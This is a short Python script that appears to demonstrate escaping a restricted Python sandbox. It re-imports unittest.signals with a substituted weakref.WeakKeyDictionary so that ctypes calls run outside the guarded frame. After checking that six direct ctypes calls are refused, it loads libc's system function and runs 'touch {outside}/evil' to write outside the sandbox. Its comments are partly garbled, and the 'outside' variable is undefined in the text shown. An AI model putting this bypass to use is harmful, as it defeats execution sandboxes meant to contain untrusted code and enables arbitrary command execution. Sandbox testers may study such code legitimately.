# What a library calls while it is imported, replaced by ctypes: no frame of a cell is above the module's,
# and imports may load libraries. Three imports make a library, a function and a call of it.
# says: only a few functions of BLAS and OpenMP
import sys, ctypes, functools, unittest, weakref
real = weakref.WeakKeyDictionary

def made_by_import(function):
    """What the line `_results = weakref.WeakKeyDictionary()` of unittest.signals gives."""
    weakref.WeakKeyDictionary = function
    sys.modules.pop("unittest.signals", None)
    try:
        import unittest.signals
    finally:
        weakref.WeakKeyDictionary = real
    return sys.modules["unittest.signals"]._results

library = made_by_import(functools.partial(ctypes.CDLL, None))
refused = 0
for function, *arguments in ((ctypes.string_at, id(1), 8), (ctypes.c_long.from_address, id(1)), (ctypes.memmove, 0, 0, 0),
                             (ctypes.c_long.in_dll, ctypes.pythonapi, "Py_DebugFlag"), (ctypes.cast, id(1), ctypes.py_object),
                             (ctypes.py_object.from_buffer, bytearray(8))):
    try:
        print("ESCAPED", made_by_import(functools.partial(function, *arguments)))
    except PermissionError:
        refused += 1
assert refused == 6, refused
system = made_by_import(functools.partial(getattr, library, "system"))
made_by_import(functools.partial(system, f"touch {outside}/evil".encode()))
